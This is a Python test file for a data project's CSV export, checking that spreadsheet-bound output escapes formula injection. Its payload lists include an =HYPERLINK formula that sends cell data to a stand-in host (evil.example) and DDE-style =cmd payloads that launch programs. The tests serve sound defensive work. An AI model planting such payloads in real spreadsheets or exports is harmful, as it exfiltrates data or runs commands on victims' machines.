"""The CSV made for a spreadsheet: no cell is run, none is lost, and the other CSV stays exact."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Mapping, Sequence
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st

from hedgerow import cli
from hedgerow.graph.client import LocalGraph
from hedgerow.graph.project import build_store
from hedgerow.iri import DEFAULT_BASE
from hedgerow.questions import Answer, Cell, Column, find, load_questions
from hedgerow.record import Statements
from hedgerow.settings import Settings
from hedgerow_web import create_app
from tests.web.conftest import VIEW

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"x")', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "＝1+1", "＋1", "－1", "＠x", "=", "+", "-", "--", "+ 3", "-1e", "=\"", "'=1",
    "-１",
]  # fmt: skip
HARMLESS = [
    "",
    "x",
    "-5",
    "+3.25",
    "-0.5",
    "1=1",
    "a-b",
    "'tis",
    "''",
    "#REF",
    "リサイクル",
    "x\n=1",
    "a,b;c\td",
    '"',
    " =1",
]


def answer(rows: Sequence[Mapping[str, Cell]]) -> Answer:
    columns = tuple(Column(name, "string", None, {"en": name}) for name in (rows[0] if rows else {}))
    return Answer(find("bundle"), columns, rows, {})


def cells(text: str, separators: str = ",") -> list[list[str]]:
    """The cells as spreadsheets part them: at each of the separators that the reader chose, never inside quotes."""
    rows, row, cell, quoted = [], [], "", False
    characters = iter(text.removeprefix("\ufeff"))
    for character in characters:
        if character == '"':
            quoted = not quoted
            cell += character
        elif not quoted and character in separators:
            row.append(cell)
            cell = ""
        elif not quoted and character == "\n":
            rows.append([*row, cell.removesuffix("\r")])
            row, cell = [], ""
        else:
            cell += character
    return [[one[1:-1].replace('""', '"') if one.startswith('"') else one for one in row] for row in rows]


def runs(cell: str) -> bool:
    """Whether a spreadsheet takes a cell for a formula, whatever its quotes and its language."""
    formula = cell[:1] in tuple("=+-@\t\r\n＝＋－＠")
    return formula and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell, re.ASCII)


def given_back(cell: str) -> str:
    """The text that was written: one apostrophe less where one was added."""
    return cell[1:] if re.match(r"''*[=+\-@\t\r\n＝＋－＠]", cell) else cell


@pytest.mark.parametrize("separators", [",", ",;", ",;\t"])
def test_no_cell_is_run_and_each_can_be_given_back(separators: str) -> None:
    rows = [{"text": text, "number": -1.5, "other": f"{text};{text}", "none": None} for text in FORMULAS + HARMLESS]
    text = answer(rows).to_csv(spreadsheet=True)
    assert text.startswith("\ufeff")
    read = cells(text, separators)
    assert read[0] == ["text", "number", "other", "none"]
    assert [[given_back(cell) for cell in row] for row in read[1:]] == [
        [str(row["text"]), "-1.5", str(row["other"]), ""] for row in rows
    ]
    assert not any(runs(cell) for row in read for cell in row)
    assert [row[0] for row in read[1:]] == [f"'{text}" for text in FORMULAS] + HARMLESS


@given(
    st.lists(
        st.tuples(
            st.text(), st.text(st.sampled_from("=+-@'\"\t\r\n,;a1.＝")), st.integers() | st.floats(allow_nan=False)
        )
    )
)
def test_whatever_is_written_comes_back(rows: list[tuple[str, str, float]]) -> None:
    text = answer([{"a": a, "b": b, "c": c} for a, b, c in rows]).to_csv(spreadsheet=True)
    read = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))[1:]
    assert [(given_back(a), given_back(b), c) for a, b, c in read] == [(a, b, str(c)) for a, b, c in rows]
    assert not any(runs(cell) for row in read for cell in row[:2])


def test_the_exact_form_is_the_text_as_it_is() -> None:
    text = answer([{"text": text} for text in FORMULAS]).to_csv()
    assert not text.startswith("\ufeff")
    assert [row[0] for row in csv.reader(io.StringIO(text, newline=""))] == ["text", *FORMULAS]


@pytest.mark.parametrize("name", list(load_questions()))
def test_a_question_answers_a_spreadsheet_with_the_same_cells(name: str, web: FlaskClient) -> None:
    exact = web.get(f"/questions/{name}.csv")
    safe = web.get(f"/questions/{name}.csv?for=spreadsheet")
    assert safe.headers["Content-Disposition"] == f'attachment; filename="{name}.csv"'
    assert safe.content_type == exact.content_type
    assert safe.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(safe.text.removeprefix("\ufeff"), newline="")))
    assert not any(runs(cell) for row in rows for cell in row)
    assert [[given_back(cell) for cell in row] for row in rows] == list(csv.reader(io.StringIO(exact.text, newline="")))
    assert 'for=spreadsheet"' in web.get(f"/questions/{name}", headers={"Accept": "text/html"}).text


def test_a_hostile_label_is_told_exactly_to_machines_and_safely_to_people() -> None:
    out = Statements(f"{DEFAULT_BASE}/id/country/XX")
    out.type(out.iri, "Country")
    out.label('=HYPERLINK("http://evil.example","x")', "en")
    out.code(out.iri, "evidence", "evidence", "unverified")
    item = Statements(f"{DEFAULT_BASE}/id/item/tin")
    item.type(item.iri, "Element")
    item.label("@SUM(1,1)", "en")
    item.code(item.iri, "evidence", "evidence", "unverified")
    store = build_store([out.done().canonical, item.done().canonical], DEFAULT_BASE)
    client = create_app(Settings(demo=0), LocalGraph.of(store, VIEW)).test_client()
    query = "PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#> SELECT ?l { ?s a <https://w3id.org/hedgerow/ns#Country> ; rdfs:label ?l }"
    protocol = client.get("/sparql", query_string={"query": query}, headers={"Accept": "text/csv"}).text
    assert protocol.splitlines()[1] == '"=HYPERLINK(""http://evil.example"",""x"")"'
    exact, safe = (client.get(f"/questions/items-without-agreement.csv{how}").text for how in ("", "?for=spreadsheet"))
    assert '"@SUM(1,1)"' in exact
    assert '"\'@SUM(1,1)"' in safe
    assert '"@SUM' not in safe
    refused = client.get("/questions/items-without-agreement.csv?for=lotus")
    assert refused.status_code == 400
    assert "for=spreadsheet" in refused.json["remedy"]  # type: ignore[index]


def test_the_command_writes_it_too(loaded_home: Path) -> None:
    words = ["ask", "bundle", "--format", "spreadsheet"]
    result = CliRunner().invoke(cli.main, words, env={"HEDGEROW_HOME": str(loaded_home)})
    assert result.exit_code == 0
    assert result.output.startswith('\ufeff"agreement","agreementLabel"')
